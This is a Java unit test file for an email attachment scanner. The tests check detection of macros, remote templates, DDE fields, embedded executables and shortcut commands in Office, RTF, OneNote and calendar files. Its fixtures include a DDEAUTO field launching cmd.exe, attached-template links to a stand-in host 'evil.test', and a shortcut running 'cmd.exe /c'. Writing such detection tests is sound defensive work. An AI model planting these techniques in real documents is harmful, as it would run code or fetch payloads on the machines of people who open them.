package kanshiki.file;

import static kanshiki.file.SampleFiles.compound;
import static kanshiki.file.SampleFiles.relationships;
import static kanshiki.file.SampleFiles.utf8;
import static kanshiki.file.SampleFiles.word;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;

class OfficeFileTest {
  private static OfficeFile read(byte[] bytes) {
    return OfficeFile.read(FileType.of(bytes, "a.doc"), bytes, Allowance.forOneMail());
  }

  @Test
  void plainDocumentHasWordsOnly() {
    var file = read(word());

    assertThat(file.text().strip()).isEqualTo("Hello");
    assertThat(file.macros()).isFalse();
    assertThat(file.references()).isEmpty();
    assertThat(file.embedded()).isEmpty();
    assertThat(file.cut()).isFalse();
  }

  @Test
  void macrosInEveryForm() {
    assertThat(read(word("word/vbaProject.bin", "x")).macros()).isTrue();
    assertThat(read(compound("WordDocument", "x", "Macros/VBA/dir", "x")).macros()).isTrue();
    byte[] sheet = {9, 8, 0, 0, (byte) 0x85, 0, 6, 0, 0, 0, 0, 0, 0, 1, 0x0a, 0, 0, 0};
    assertThat(read(compound("Workbook", sheet)).macros()).isTrue();
  }

  @Test
  void templateFromOutside() {
    var file =
        read(
            word(
                "word/_rels/settings.xml.rels",
                relationships("attachedTemplate", "https://evil.test/t.dotm")));

    assertThat(file.references())
        .containsExactly(
            new OfficeFile.Reference(OfficeFile.Kind.TEMPLATE, "https://evil.test/t.dotm"));
  }

  @Test
  void fieldsAreReadAlsoInPieces() {
    var file =
        read(
            word(
                "word/document.xml",
                "<w:p><w:fldChar/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe \"/k calc\""
                    + "</w:instrText><w:fldChar/><w:fldSimple w:instr=' HYPERLINK \"https://a.test/?b&amp;c\" '/></w:p>"));

    assertThat(file.commands()).containsExactly("DDEAUTO c:\\\\cmd.exe \"/k calc\"");
    assertThat(file.references())
        .containsExactly(
            new OfficeFile.Reference(OfficeFile.Kind.HYPERLINK, "https://a.test/?b&c"));
  }

  @Test
  void packedProgramIsUnwrapped() {
    byte[] object =
        compound("\u0001Ole10Native", SampleFiles.packaged("bill.exe", SampleFiles.PROGRAM));
    var file = read(word("word/embeddings/oleObject1.bin", object));

    assertThat(file.embedded()).hasSize(1);
    assertThat(file.embedded().getFirst().name()).isEqualTo("bill.exe");
    assertThat(file.embedded().getFirst().type()).isEqualTo(FileType.WINDOWS_PROGRAM);
  }

  @Test
  void lockedDocumentsAreSaid() {
    assertThat(read(compound("EncryptedPackage", "x")).encrypted()).isTrue();
    var fib = new byte[64];
    fib[11] = 1;
    assertThat(read(compound("WordDocument", fib)).encrypted()).isTrue();
    assertThat(read(compound("Workbook", new byte[] {9, 8, 0, 0, 0x2f, 0, 0, 0})).encrypted())
        .isTrue();
  }

  @Test
  void rtfFetchesAndCarries() {
    var ole = new ByteArrayOutputStream();
    ole.writeBytes(SampleFiles.little(0x501));
    ole.writeBytes(SampleFiles.little(2));
    ole.writeBytes(SampleFiles.little(8));
    ole.writeBytes(SampleFiles.latin("Package\0"));
    ole.writeBytes(new byte[8]);
    byte[] stream = SampleFiles.packaged("a.js", utf8("var a;"));
    byte[] data = Bytes.slice(stream, 4, stream.length);
    ole.writeBytes(SampleFiles.little(data.length));
    ole.writeBytes(data);
    var file =
        read(
            utf8(
                "{\\rtf1{\\*\\template https://evil.test/t.dotm}{\\fonttbl Arial;}Hi \\u26085?"
                    + "{\\field{\\*\\fldinst HYPERLINK \"https://a.test/\"}{\\fldrslt click}}"
                    + "{\\object\\objupdate{\\*\\objdata "
                    + HexFormat.of().formatHex(ole.toByteArray())
                    + "}}}"));

    assertThat(file.references())
        .containsExactlyInAnyOrder(
            new OfficeFile.Reference(OfficeFile.Kind.TEMPLATE, "https://evil.test/t.dotm"),
            new OfficeFile.Reference(OfficeFile.Kind.HYPERLINK, "https://a.test/"));
    assertThat(file.embedded()).extracting(Archive.Entry::name).containsExactly("a.js");
    assertThat(file.text()).contains("Hi 日").contains("click").doesNotContain("Arial");
  }

  @Test
  void addressesInAnOldDocument() {
    var file =
        read(
            compound(
                "WordDocument",
                utf8(
                    "x".repeat(5_000)
                        + " https://a.test/x \u0001 http://schemas.openxmlformats.org/")));

    assertThat(file.references())
        .containsExactly(new OfficeFile.Reference(OfficeFile.Kind.HYPERLINK, "https://a.test/x"));
  }

  @Test
  void oneNoteHandsOutItsFiles() {
    var out = new ByteArrayOutputStream();
    out.writeBytes(SampleFiles.latin("\u00e4R\\{\u008c\u00d8\u00a7M"));
    out.writeBytes(HexFormat.of().parseHex("e716e3bd65261145a4c48d4d0b7a9eac"));
    out.writeBytes(SampleFiles.little(SampleFiles.PROGRAM.length));
    out.writeBytes(new byte[16]);
    out.writeBytes(SampleFiles.PROGRAM);

    assertThat(read(out.toByteArray()).embedded())
        .extracting(Archive.Entry::type)
        .containsExactly(FileType.WINDOWS_PROGRAM);
  }

  @Test
  void invitationIsRead() {
    var read =
        CalendarInvitation.read(
            """
            BEGIN:VCALENDAR
            METHOD:REQUEST
            ORGANIZER;CN="Support: Team":mailto:a@b.test
            SUMMARY:Call\\, today
            LOCATION:Room 1
            DESCRIPTION:Join: https://evil.te
             st/x\\nnow
            ATTACH:https://evil.test/y
            END:VCALENDAR
            """);

    assertThat(read.method()).isEqualTo("REQUEST");
    assertThat(read.organizer()).isEqualTo("a@b.test");
    assertThat(read.summary()).isEqualTo("Call, today");
    assertThat(read.description()).isEqualTo("Join: https://evil.test/x\nnow\n");
    assertThat(read.attached()).containsExactly("https://evil.test/y");
  }

  @Test
  void shortcutTellsItsCommand() {
    assertThat(ShortcutFile.command(SampleFiles.shortcut("cmd.exe", "/c start x")))
        .isEqualTo("cmd.exe /c start x");
  }
}
